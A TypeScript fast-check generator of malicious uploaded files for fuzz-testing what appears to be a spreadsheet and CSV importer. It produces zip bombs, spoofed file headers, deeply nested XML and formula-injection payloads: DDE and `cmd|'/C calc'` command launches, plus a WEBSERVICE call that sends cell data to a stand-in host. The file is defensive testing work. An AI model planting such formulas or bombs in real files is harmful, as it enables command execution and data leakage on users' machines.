import fc from 'fast-check';
import { strToU8, zipSync, type Zippable } from 'fflate';
import { laering2017, nynorsk, withSections } from '../domain/import/printedPages.ts';
import { mutated, mutations, printedParts } from '../wire/tables/mutations.ts';
import { lyingZip, workbookFiles, workbookOf } from '../wire/tables/workbooks.ts';

/** A file somebody hands over. */
export type BadFile = { readonly name: string; readonly bytes: Uint8Array };

const whole = workbookOf(printedParts);
const files = workbookFiles(printedParts);
const sheet = 'xl/worksheets/sheet1.xml';
const pages = [laering2017, nynorsk, withSections].map((page) => strToU8(page));

const changedBytes = mutations.map((changes): BadFile => ({ name: 'a.xlsx', bytes: mutated(whole, changes) }));

const changedParts = fc.tuple(fc.constantFrom(...Object.keys(files)), mutations).map(([name, changes]): BadFile => {
  const changed: Zippable = { ...files, [name]: mutated(files[name] as Uint8Array, changes) };
  return { name: 'a.xlsx', bytes: zipSync(changed, { level: 1 }) };
});

const changedTexts = fc
  .tuple(fc.constantFrom(...pages), mutations)
  .map(([page, changes]): BadFile => ({ name: 'a.csv', bytes: mutated(page, changes) }));

/** Zeros that become a thousand times as many when unpacked; where it lies, the directory says they are few. */
const bombs = fc.tuple(fc.integer({ min: 2, max: 50 }), fc.boolean()).map(([megabytes, lies]): BadFile => {
  const bytes = zipSync({ ...files, [sheet]: new Uint8Array(megabytes * 1024 * 1024) }, { level: 9 });
  return { name: 'a.xlsx', bytes: lies ? lyingZip(bytes, sheet, 5000) : bytes };
});

const formula = fc.constantFrom(
  `cmd|'/C calc'!A0`,
  'WEBSERVICE("https://a.example/"&amp;B1)',
  'HYPERLINK("https://a.example")',
  `DDE("cmd";"/C calc";"!A0")`,
);
const around = fc.constantFrom('', '1+', '@SUM(1)+', ' ', '-');
const formulas = fc.tuple(around, formula).map(([before, text]): BadFile => {
  const rows = `<row r="1"><c r="A1"><f>${before}${text}</f><v>1</v></c></row>`;
  return { name: 'a.xlsx', bytes: workbookOf({ rows }) };
});

const beginnings = fc.constantFrom(
  '%PDF-1.7\n',
  'MZ\0',
  '\u0089PNG\r\n',
  'GIF89a',
  '{\\rtf1',
  '<?xml version="1.0"?><!DOCTYPE x>',
);
const others = fc
  .tuple(beginnings, fc.uint8Array({ maxLength: 200 }), fc.constantFrom('a.xlsx', 'a.pdf', 'a.xls', 'a.png', 'a.docx'))
  .map(([text, rest, name]): BadFile => ({ name, bytes: new Uint8Array([...strToU8(text, true), ...rest]) }));

const deep = fc.integer({ min: 100, max: 20_000 }).map((depth): BadFile => ({
  name: 'a.xlsx',
  bytes: workbookOf({ rows: '', sheet: '<a>'.repeat(depth) }),
}));

/** Files with bytes changed, lost or doubled, outside and inside the ZIP; bombs; formulas that call out; other kinds of files; markup without end. */
export const badFile: fc.Arbitrary<BadFile> = fc.oneof(
  { weight: 40, arbitrary: changedBytes },
  { weight: 20, arbitrary: changedParts },
  { weight: 10, arbitrary: changedTexts },
  { weight: 1, arbitrary: bombs },
  { weight: 8, arbitrary: formulas },
  { weight: 15, arbitrary: others },
  { weight: 6, arbitrary: deep },
);
